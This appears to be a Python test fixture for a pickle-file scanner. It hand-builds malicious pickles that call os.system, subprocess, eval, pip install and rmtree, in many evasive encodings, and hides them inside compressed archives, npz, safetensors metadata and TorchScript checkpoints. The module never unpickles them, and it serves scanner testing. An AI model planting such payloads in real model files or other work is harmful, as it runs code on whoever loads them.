"""Pickles that would run something, in every form that a scanner was ever fooled by. None of them is unpickled here."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zlib

from crafted import packed

COMMAND = b"touch marker"


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Protocol 0, which is text: `module.name(*arguments)`."""
    given = b"".join(b"S'%b'\n" % argument for argument in arguments)
    return f"c{module}\n{name}\n".encode() + b"(" + given + b"tR."


def short(text: str) -> bytes:
    """A string of protocol 4."""
    return b"\x8c" + bytes([len(text)]) + text.encode()


CALLS: dict[str, bytes] = {
    "os": call("os", "system", COMMAND),
    "posix": call("posix", "system", COMMAND),
    "nt": call("nt", "system", COMMAND),
    "subprocess": call("subprocess", "check_output", COMMAND),
    "builtins.eval": call("builtins", "eval", b"1"),
    "__builtin__.exec": call("__builtin__", "exec", b"1"),
    "builtins.getattr": call("builtins", "getattr", b"x", b"y"),
    "importlib": call("importlib", "import_module", b"antigravity"),
    "mock importer": call("unittest.mock", "_importer", b"os.system"),
    "torch.hub": call("torch.hub", "load", b"evil/evil", b"evil"),
    "torch storage": call("torch.storage", "_load_from_bytes", b"x"),
    "numpy runstring": call("numpy.testing._private.utils", "runstring", b"1", b"{}"),
    "pip": call("pip", "main", b"install evil"),
    "pip internal": call("pip._internal.cli.main", "main", b"install evil"),
    "ctypes": call("ctypes", "CDLL", b"evil.so"),
    "cProfile": call("cProfile", "run", b"1"),
    "timeit": call("timeit", "timeit", b"1"),
    "pydoc": call("pydoc", "pipepager", b"x", COMMAND),
    "webbrowser": call("webbrowser", "open", b"http://example.invalid"),
    "code": call("code", "interact"),
    "runpy": call("runpy", "run_path", b"evil.py"),
    "shutil": call("shutil", "rmtree", b"marker"),
    "socket": call("socket", "create_connection", b"example.invalid"),
    "asyncio": call("asyncio.unix_events", "_UnixSubprocessTransport._start", b"x"),
    "operator": call("operator", "methodcaller", b"system"),
    "functools": call("functools", "partial", b"x"),
    "pickle in pickle": call("pickle", "loads", b"N."),
    "dill": call("dill._dill", "_create_code", b"x"),
    "unknown package": call("acme_helpers", "Helper", b"x"),
}
"""By what they call."""

FORMS: dict[str, bytes] = {
    "protocol 0": CALLS["os"],
    "protocol 1": b"cposix\nsystem\nq\0(U\x0ctouch markerq\x01tq\x02Rq\x03.",
    "protocol 2": b"\x80\x02cposix\nsystem\n(U\x0ctouch markertR.",
    "protocol 4": b"\x80\x04" + short("posix") + short("system") + b"\x93" + short("touch marker") + b"\x85R.",
    "protocol 4 in a frame": b"\x80\x04\x95"
    + struct.pack("<Q", 33)
    + short("posix")
    + short("system")
    + b"\x93"
    + short("touch marker")
    + b"\x85R.",
    "without the mark of its protocol": short("posix") + short("system") + b"\x93" + short("touch marker") + b"\x85R.",
    "names from the memo": b"\x80\x04" + short("system") + b"\x940" + short("posix") + b"\x94h\0\x93" + b")R.",
    "an instance": b"(S'touch marker'\nios\nsystem\n.",
    "an object": b"(cos\nsystem\nS'touch marker'\no.",
    "a new object": b"\x80\x02cos\nsystem\n(S'touch marker'\nt\x81.",
    "a state": b"\x80\x02cacme\nThing\n)\x81}S'x'\nNsb.",
    "a number first": b"I1\n0" + CALLS["os"],
    "an octal number first": b"I010\n0" + CALLS["os"],
    "a number in hexadecimal first": b"I0x1\n0" + CALLS["os"],
    "a long number first": b"L" + b"9" * 5000 + b"L\n0" + CALLS["os"],
    "a string of another encoding first": b"S'\\xe9'\n0" + CALLS["os"],
    "spaces in a text first": b"S'" + b" " * 5000 + b"'\n0" + CALLS["os"],
    "a long text first": b"X" + struct.pack("<I", 100_000) + b"x" * 100_000 + b"0" + CALLS["os"],
    "a broken end": CALLS["os"][:-1] + b"\xff\xff",
    "no end": CALLS["os"][:-1],
    "text after it": CALLS["os"] + b"\n# A model\n\nThis is the card of a model.\n",
    "a list first": b"(l0" + CALLS["os"],
    "a dictionary first": b"}]0" + b"0" + CALLS["os"],
    "two": b"N." + CALLS["os"],
}
"""By how they are written; each calls `os.system`, but for "a state"."""


def whole() -> dict[str, bytes]:
    """Files of other kinds that hold one."""
    hidden = CALLS["os"]
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo("pickle")
        info.size = len(hidden)
        archive.addfile(info, io.BytesIO(hidden))
    header = b'{"__metadata__":{"a":"%b"}}' % base64.b64encode(FORMS["protocol 2"])
    checkpoint = packed({"m/data.pkl": FORMS["protocol 2"], "m/version": b"3"})
    return {
        "gzip": gzip.compress(hidden),
        "bzip2": bz2.compress(hidden),
        "xz": lzma.compress(hidden),
        "lzma": lzma.compress(hidden, lzma.FORMAT_ALONE),
        "zlib": zlib.compress(hidden),
        "tar": tar.getvalue(),
        "checkpoint": checkpoint,
        "npz": packed({"a.npy": FORMS["protocol 2"]}),
        "npz of pickles with the name of arrays": packed({"a.npy": hidden}),
        "text with a checkpoint at its end": b"# A model\n" * 3 + checkpoint,
        "safetensors with a pickle in its metadata": len(header).to_bytes(8, "little") + header,
        "archive of an unknown kind": packed({"notes.txt": hidden}),
        "TorchScript": packed({"m/constants.pkl": b"\x80\x02).", "m/code/a.py": b"", "m/data.pkl": hidden}),
    }


def dumped(value: object) -> list[bytes]:
    """A value in every protocol."""
    return [pickle.dumps(value, protocol) for protocol in range(pickle.HIGHEST_PROTOCOL + 1)]
